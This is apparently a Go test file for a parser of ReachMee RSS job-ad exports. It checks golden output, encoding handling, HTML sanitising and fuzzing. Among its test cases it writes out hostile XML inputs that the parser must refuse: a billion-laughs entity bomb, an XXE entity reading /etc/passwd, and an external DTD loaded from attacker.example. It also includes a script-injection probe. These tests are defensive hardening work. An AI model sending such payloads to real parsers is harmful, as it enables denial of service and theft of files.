package reachmee

import (
	"os"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/jobgate/jobgate/connectors"
	"github.com/jobgate/jobgate/connectors/connectortest"
	"github.com/jobgate/jobgate/internal/ad"
)

// now is before every fixture item's pubDateTo.
var now = time.Date(2026, time.June, 1, 12, 0, 0, 0, time.UTC)

const fixture = "../../testdata/reachmee/external.rss"

// TestGolden maps each item of the fixture export to the canonical ad,
// compared with external.rss.<CommAdSeqNo>.golden.json.
func TestGolden(t *testing.T) {
	connectortest.GoldenList(t, fixture, now, func(body []byte) ([]connectors.Posting, error) {
		feed, err := ParseFeed(body)
		if err != nil {
			return nil, err
		}
		require.Equal(t, "Ledige stillinger", feed.Title)
		var out []connectors.Posting
		for _, it := range feed.Items {
			out = append(out, connectors.Posting{Reference: it.Reference(), Ad: it.Ad("Nordlys Energi")})
		}
		return out, nil
	})
}

func TestParseFeedRefuses(t *testing.T) {
	item := func(inner string) string { return "<rss><channel><title>t</title>" + inner + "</channel></rss>" }
	for _, c := range []struct{ name, body, want string }{
		{"empty", "", "no <rss><channel>"},
		{"HTML page", "<!DOCTYPE html><html><head><title>Error</title></head><body>Server Error</body></html>", "<html>, not <rss>"},
		{"Atom feed", `<feed xmlns="http://www.w3.org/2005/Atom"></feed>`, "<feed>, not <rss>"},
		{"RSS without a channel", "<rss></rss>", "no <rss><channel>"},
		{"RSS with something else", "<rss><error>down</error></rss>", "<error> where <channel>"},
		{"truncated", item(`<item><CommAdSeqNo>1</CommAdSeqNo><title>x`), "malformed"},
		{"cut after the channel", "<rss><channel><title>t</title></channel>", "malformed"},
		{"not XML", `{"items":[]}`, "malformed"},
		{"no CommAdSeqNo", item(`<item><CommAdSeqNo>1</CommAdSeqNo></item><item><title>x</title></item>`), "item 1 has no CommAdSeqNo"},
		{"blank CommAdSeqNo", item(`<item><CommAdSeqNo> </CommAdSeqNo></item>`), "no CommAdSeqNo"},
		{"duplicate CommAdSeqNo", item(`<item><CommAdSeqNo>7</CommAdSeqNo></item><item><commadseqno>7</commadseqno></item>`), "item 7 is listed twice"},
		{"undeclared entity", item(`<item><CommAdSeqNo>1</CommAdSeqNo><title>&nbsp;</title></item>`), "malformed"},
		{"unsupported encoding", `<?xml version="1.0" encoding="windows-1252"?><rss><channel/></rss>`, "windows-1252"},
		{"billion laughs", `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>` +
			item(`<item><CommAdSeqNo>1</CommAdSeqNo><title>&lol3;</title></item>`), "declares entities"},
		{"external entity", `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>` +
			item(`<item><CommAdSeqNo>1</CommAdSeqNo><title>&xxe;</title></item>`), "declares entities"},
		{"external DTD with a parameter entity", `<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>` + item(""), "declares entities"},
	} {
		feed, err := ParseFeed([]byte(c.body))
		require.ErrorContains(t, err, c.want, c.name)
		require.Empty(t, feed.Items, c.name)
	}
}

func TestParseFeedReads(t *testing.T) {
	feed, err := ParseFeed([]byte(`<rss version="2.0"><channel><title> Jobs </title></channel></rss>`))
	require.NoError(t, err, "an installation with no vacancies is an empty channel")
	require.Empty(t, feed.Items)
	require.Equal(t, "Jobs", feed.Title)

	// Any casing of ReachMee's names; another namespace's element does
	// not stand in for RSS's; the first of a repeated element is kept.
	feed, err = ParseFeed([]byte(`<rss xmlns:atom="http://www.w3.org/2005/Atom"><channel><item>
		<atom:link href="https://elsewhere.example/"/><atom:title>not this</atom:title>
		<commadseqno> 9 </commadseqno><AREA2>Oslo</AREA2><Area2>Bergen</Area2><title>T</title>
		<link>https://web103.reachmee.com/ext/I1/1/main?rmjob=9</link></item></channel></rss>`))
	require.NoError(t, err)
	require.Equal(t, Item{CommAdSeqNo: "9", Area2: "Oslo", Title: "T", Link: "https://web103.reachmee.com/ext/I1/1/main?rmjob=9"}, feed.Items[0])

	// An export whose RSS has a default namespace.
	feed, err = ParseFeed([]byte(`<rss xmlns="http://backend.userland.com/rss2"><channel><item><CommAdSeqNo>3</CommAdSeqNo><title>T</title></item></channel></rss>`))
	require.NoError(t, err)
	require.Equal(t, "T", feed.Items[0].Title)

	// ISO-8859-1: "Tromsø" with ø as the single byte 0xF8.
	latin := append([]byte(`<?xml version="1.0" encoding="ISO-8859-1"?><rss><channel><item><CommAdSeqNo>1</CommAdSeqNo><Area2>Troms`), 0xF8, '<', '/')
	feed, err = ParseFeed(append(latin, []byte(`Area2></item></channel></rss>`)...))
	require.NoError(t, err)
	require.Equal(t, "Tromsø", feed.Items[0].Area2)
}

func TestDescriptionIsDecodedOnce(t *testing.T) {
	feed, err := ParseFeed([]byte(`<rss><channel><item><CommAdSeqNo>1</CommAdSeqNo>` +
		`<description>&lt;p&gt;A &amp;amp; B &amp;lt;3&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;</description></item></channel></rss>`))
	require.NoError(t, err)
	require.Equal(t, "<p>A &amp; B &lt;3</p><script>alert(1)</script>", feed.Items[0].Description, "the HTML, as ReachMee encoded it")
	a := feed.Items[0].Ad("E")
	a.Title = "T"
	require.NoError(t, ad.Normalize(&a, now))
	require.Equal(t, "<p>A &amp; B &lt;3</p>", a.Description, "and sanitised by the hub")
}

// FuzzParseFeed feeds the export parser, seeded with the fixture: no
// panic, and every item read maps to an ad that validates or is refused
// field by field.
func FuzzParseFeed(f *testing.F) {
	if body, err := os.ReadFile(fixture); err == nil {
		f.Add(body)
	}
	f.Add([]byte(`<rss><channel><item><CommAdSeqNo>1</CommAdSeqNo><title>t</title><description>&lt;b&gt;x</description><pubDateTo>2026-13-01</pubDateTo></item></channel></rss>`))
	f.Fuzz(func(t *testing.T, body []byte) {
		feed, err := ParseFeed(body)
		if err != nil {
			return
		}
		for _, it := range feed.Items {
			a := it.Ad("Employer")
			if err := ad.Normalize(&a, now); err != nil {
				var verr *ad.ValidationError
				require.ErrorAs(t, err, &verr)
				continue
			}
			require.NotContains(t, strings.ToLower(a.Description), "<script")
		}
	})
}

// TestParseFeedSkipsOneItem: a NUL or bytes that are not UTF-8 in one item
// mark that item (to be skipped) and leave the export and its other items
// readable, in a UTF-8 and in an ISO-8859-1 document (issue 13, break 5).
func TestParseFeedSkipsOneItem(t *testing.T) {
	doc := func(decl, bad string) []byte {
		return []byte(decl + `<rss><channel><title>Jobs</title>` +
			`<item><CommAdSeqNo>1</CommAdSeqNo><title>One</title></item>` +
			`<item><CommAdSeqNo>2</CommAdSeqNo><title>T` + bad + `wo</title></item>` +
			`<item><CommAdSeqNo>3</CommAdSeqNo><title>Three</title></item></channel></rss>`)
	}
	utf8Decl, latinDecl := `<?xml version="1.0" encoding="UTF-8"?>`, `<?xml version="1.0" encoding="ISO-8859-1"?>`
	for name, body := range map[string][]byte{
		"UTF-8 NUL":           doc(utf8Decl, "\x00"),
		"UTF-8 invalid bytes": doc(utf8Decl, "\xc3("),
		"UTF-8 &#0;":          doc(utf8Decl, "&#0;"),
		"no declaration NUL":  doc("", "\x00"),
		"ISO-8859-1 NUL":      doc(latinDecl, "\x00"),
	} {
		t.Run(name, func(t *testing.T) {
			feed, err := ParseFeed(body)
			require.NoError(t, err)
			require.Len(t, feed.Items, 3)
			require.Empty(t, feed.Items[0].problem)
			require.Equal(t, connectors.ProblemUnreadable, feed.Items[1].problem)
			require.Empty(t, feed.Items[2].problem)
			require.Equal(t, "Three", feed.Items[2].Title)
			require.Equal(t, "Jobs", feed.Title)
		})
	}
	latin := doc(latinDecl, "\xf8")
	feed, err := ParseFeed(latin)
	require.NoError(t, err)
	require.Empty(t, feed.Items[1].problem, "ø in ISO-8859-1 is text")
	require.Equal(t, "Tøwo", feed.Items[1].Title)
}
